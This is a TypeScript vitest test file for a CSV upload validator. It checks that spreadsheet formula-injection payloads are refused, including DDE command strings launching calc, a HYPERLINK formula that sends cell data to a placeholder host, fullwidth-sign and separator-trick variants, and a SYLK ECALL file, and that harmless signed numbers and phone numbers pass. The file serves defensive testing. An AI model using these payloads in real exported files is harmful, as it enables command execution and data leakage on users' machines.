import iconv from 'iconv-lite'
import { describe, expect, it } from 'vitest'
import { looking } from './looking.ts'

const { fault } = looking()

describe('a table as text', () => {
  const formulas = [
    "=cmd|'/C calc'!A0",
    '=1+2',
    '=A1',
    '=HYPERLINK("http://a.invalid?x="&A1,"x")',
    '+SUM(A1:A2)',
    '-A1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1,2)',
    ' =A1',
    '"=A1"',
    "\t=cmd|'/C calc'!A0",
    '＝cmd|a!A0',
    '＋SUM(A1)',
    '－A1',
    '＠SUM(1,2)',
    '"\n=A1"',
    '"\r=A1"',
    '\u3000＝A1',
  ]
  const data = ['-12.5', '+8613800000000', '+86 138-0000-0000', '-', '--', '-12%', '="0012"', '-5 万元', '@虚构', 'a=b']

  it.each(formulas)('with the cell %s is refused', async (cell) => {
    for (const before of ['', '企业,', '企业;', '企业\t', '企业\n', '企业\r\n', '\ufeff']) {
      expect(await fault('a.csv', Buffer.from(`${before}${cell}`)), before).toBe('formula')
      if (before !== '\ufeff')
        expect(await fault('a.csv', iconv.encode(`虚构,${before}${cell}`, 'gb18030'))).toBe('formula')
    }
    expect(await fault('a.csv', Buffer.from(`${'x,'.repeat(32_768 - 3)}${cell}`))).toBe('formula')
    expect(await fault('a.csv', Buffer.from(`${'x'.repeat(65_536)},${cell}`))).toBe('formula')
  })

  it('may have numbers with a sign, telephone numbers, dashes and quoted codes', async () => {
    expect(await fault('a.csv', Buffer.from(data.join(',')))).toBeUndefined()
    expect(await fault('a.csv', Buffer.from(data.join('\r\n')))).toBeUndefined()
    expect(await fault('a.txt', Buffer.from(formulas.join('\n')))).toBeUndefined()
  })

  it.each([
    '-1e5',
    '-15m3',
    '-USD500',
    '- 见B2栋',
    '-PM2.5超标',
    '-5kg(净重)',
    '+8h30',
    '+86 21 6288 1234 ext5',
    '======',
    '= 50 元',
    '"虚构, -A3级"',
    '"甲=A;=B"',
    '- 第A1项',
    '-注意！请整改',
    '-产品(虚构)',
  ])('may have the cell %s', async (cell) => {
    for (const around of [cell, `企业,${cell}\r\n`, `企业;${cell};x`, `企业\t${cell}`])
      expect(await fault('a.csv', Buffer.from(around)), around).toBeUndefined()
  })

  it('may not hide a formula by another sign between cells, or by being of another kind', async () => {
    for (const line of ['sep=^', 'sep=|', 'SEP=:', '\ufeffsep=^', '"sep=^"'])
      expect(await fault('a.csv', Buffer.from(`${line}\nx^=cmd|'/C calc'!A0`)), line).toBe('notSeen.separator')
    expect(await fault('a.csv', Buffer.from('sep=;\n企业;备注\n虚构;无'))).toBeUndefined()
    const sylk = 'ID;PWXL;N;E\r\nC;Y1;X1;ECALL("a")\r\nE\r\n'
    expect(await fault('a.csv', Buffer.from(sylk))).toBe('typeMismatch')
    expect(await fault('a.csv', Buffer.from('ID,名称\n1,虚构'))).toBeUndefined()
  })
})
